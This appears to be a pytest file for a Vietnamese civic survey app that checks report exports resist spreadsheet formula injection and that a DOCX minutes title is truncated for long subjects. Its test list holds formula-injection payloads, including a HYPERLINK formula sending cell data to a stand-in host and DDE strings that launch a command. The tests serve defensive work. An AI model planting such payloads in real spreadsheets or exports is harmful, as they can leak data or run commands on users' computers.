"""Exports that open in office software: no user text runs as a spreadsheet formula
(issue 15 item 7), and the minutes' DOCX survives a long subject (item 18)."""
from __future__ import annotations

import csv
import io
import uuid

import docx
from openpyxl import load_workbook

from survey_app.demo import seed_document
CORE_PROPERTY_LIMIT = 255  # Word's limit on a core property
from survey_app.domain.visits.document import import_document
from survey_app.storage import accounts as accounts_sql

from .support import api_headers, seed_visit

REPORT = "/followup/report.{fmt}?from=2025-10-01&to=2025-10-31"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def import_formula_visit(app, store):
    doc = seed_document()
    doc["uuid"] = str(uuid.uuid4())
    doc["recommendations"] = [{"text": text, "addressee": f"={i}+UBND xã Hra"}
                              for i, text in enumerate(FORMULAS)]
    head = store.read(accounts_sql.get_user_by_username, "truongdoan")
    import_document(store, app.extensions["survey_forms"], head, doc,
                    app.extensions["survey_files"] / "photos")


def test_recommendation_text_is_text_in_the_xlsx(app, store, login_as):
    import_formula_visit(app, store)
    client = login_as("thuky")
    book = load_workbook(io.BytesIO(client.get(REPORT.format(fmt="xlsx")).data))
    cells = [c for row in book["Kiến nghị"].iter_rows() for c in row if isinstance(c.value, str)]
    texts = {c.value for c in cells}
    assert set(FORMULAS) <= texts and "=0+UBND xã Hra" in texts  # kept as written
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(c.data_type == "s" for c in cells)


def test_formula_starts_are_neutralised_in_the_csv(app, store, login_as):
    import_formula_visit(app, store)
    client = login_as("thuky")
    text = client.get(REPORT.format(fmt="csv")).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert "'=0+UBND xã Hra" in cells
    assert "Bảo đảm sự phối hợp đồng bộ, chặt chẽ giữa các bộ phận." in cells  # ordinary text untouched


def test_docx_of_a_long_subject(login_as, runner, client, store):
    headers = api_headers(runner, "thuky")
    visit_id = seed_visit(store)["id"]
    subject = ("Làm việc với Trung tâm Phục vụ hành chính công xã Hra về việc tiếp nhận, giải quyết thủ tục "
               "hành chính, thực hiện cơ chế một cửa, một cửa liên thông và chuyển đổi số trong giải quyết "
               "thủ tục hành chính trên địa bàn xã trong năm 2025 và những tháng đầu năm 2026 theo kế hoạch "
               "của Ban Pháp chế HĐND tỉnh")
    assert len(subject) >= 232
    assert client.post(f"/api/v1/visits/{visit_id}/minutes/draft", headers=headers).status_code == 200
    assert client.post(f"/api/v1/visits/{visit_id}/minutes/wording", headers=headers,
                       json={"subject": subject}).status_code == 200
    assert client.post(f"/api/v1/visits/{visit_id}/minutes/finalize", headers=headers, json={"confirm": True}).status_code == 200
    page = login_as("thuky")
    response = page.get(f"/visits/{visit_id}/minutes/v1.docx")
    assert response.status_code == 200
    document = docx.Document(io.BytesIO(response.data))
    title = document.core_properties.title
    assert len(title) <= CORE_PROPERTY_LIMIT and title.endswith("…")
    assert title.startswith("Biên bản số") and "Trung tâm Phục vụ hành chính công xã Hra" in title
    body = " ".join(p.text for p in document.paragraphs)
    assert subject in body  # the whole subject stays in the document itself
